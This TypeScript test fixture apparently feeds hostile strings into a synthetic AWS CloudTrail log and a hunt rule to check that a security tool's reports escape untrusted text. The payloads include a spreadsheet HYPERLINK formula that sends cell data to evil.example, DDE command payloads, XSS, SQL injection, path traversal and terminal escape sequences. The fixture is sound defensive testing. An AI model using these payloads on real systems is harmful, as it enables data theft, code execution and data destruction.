import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Text as an attacker may leave it in a log, to be run where a report is opened. */
export const HOSTILE: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  'wide equals': '\uff1d1+1',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
  'line feed': '\n=1+1',
  'quotes and commas': '",=1+1,"',
  'semicolon and bar': 'a;=1+1|b',
  script: '<script>document.title="run"</script>',
  image: '<img src="http://evil.example/a.png" onerror="document.title=\'run\'">',
  'end of attribute': '" autofocus onfocus="document.title=\'run\'',
  'end of comment': '--></style></title><svg onload=alert(1)>',
  entity: '&lt;script&gt; &amp;amp; &#60;',
  'markdown link': '[click](javascript:alert(1)) ![x](http://evil.example/b.png) <http://evil.example>',
  'markdown table': 'a | b\n|---|---|\n# head\n> quote\n- item',
  backticks: '``` `` ` ```',
  'only a backtick': '`',
  mention: '@everyone #1 https://evil.example www.evil.example a@evil.example',
  'right to left': 'invoice\u202egpj.exe \u2067abc\u2069 \u200f',
  'zero width': 'ad\u200bmin\u2060 \ufeff',
  'soft hyphen and fillers': 'pass\u00adword \u3164 a\u{e0101}',
  tags: `a\u{e0041}\u{e007f}b`,
  nul: 'before\u0000after',
  newlines: 'one\ntwo\r\nthree\u2028four\u2029five\u0085six',
  homoglyph: '\u0430dmin@ex\u0430mple.com',
  terminal: '\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]52;c;cm0gLXJm\u0007',
  backspace: 'safe\b\b\b\bevil\u007f',
  backslash: "\\' OR 1=1 --\\",
  'template words': '${7*7} {{7*7}} %s %n $ref __proto__ constructor',
  sql: "'; DROP TABLE event_facts; --",
  path: '../../../../etc/passwd',
  emoji: '👩\u200d💻 \u{1f1e9}\u{1f1ea}',
  long: `start ${'x'.repeat(1_048_576)} end`,
  'long wide': 'é'.repeat(20_000),
  blank: '   ',
};

export const texts = (): string[] => Object.values(HOSTILE);

/** CloudTrail, as its trail delivers it, with each text as user, client and parameter of a call. */
export function writeHostileTrail(folder: string, name: string, some: readonly string[] = texts()): string {
  const path = join(folder, name);
  const all = texts();
  const numbered = some.map((text) => ({ text, index: all.indexOf(text) }));
  const Records = numbered.map(({ text, index }) => ({
    eventVersion: '1.09',
    userIdentity: {
      type: 'IAMUser',
      principalId: `AIDA${String(index).padStart(16, '0')}`,
      arn: `arn:aws:iam::111122223333:user/${index}`,
      accountId: '111122223333',
      accessKeyId: `AKIA${String(index).padStart(16, '0')}`,
      userName: text,
    },
    eventTime: `2024-05-1${index % 3}T08:${String(index).padStart(2, '0')}:00Z`,
    eventSource: 's3.amazonaws.com',
    eventName: 'ListBuckets',
    awsRegion: 'us-east-1',
    sourceIPAddress: `203.0.113.${index + 1}`,
    userAgent: text,
    requestParameters: { note: text },
    responseElements: null,
    requestID: `request-${index}`,
    eventID: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`,
    readOnly: true,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: '111122223333',
    eventCategory: 'Management',
  }));
  writeFileSync(path, JSON.stringify({ Records }));
  return path;
}

/** A hunt that finds each of these users, with a title that is hostile itself. */
export const HOSTILE_HUNT = `id: hostile-listing
title: '=cmd <script>document.title="run"</script> [x](javascript:alert(1)) \`\`'
question: Who lists?
severity: high
entity: user
attack: [T1526, T1078.004]
needs: { missing: AWS CloudTrail }
rule:
  kind: match
  where: { column: event_action, is: ListBuckets }
summary: '{events} events <img src=x onerror=alert(1)>'
bundles:
  every: { event_dataset: aws.cloudtrail, event_outcome: success, user_name: ada }
cases:
  - name: one
    events: ['2024-05-01T08:00:00Z event_action=ListBuckets']
    findings: [{ entity: { kind: user, value: ada }, values: { events: 1 } }]
`;
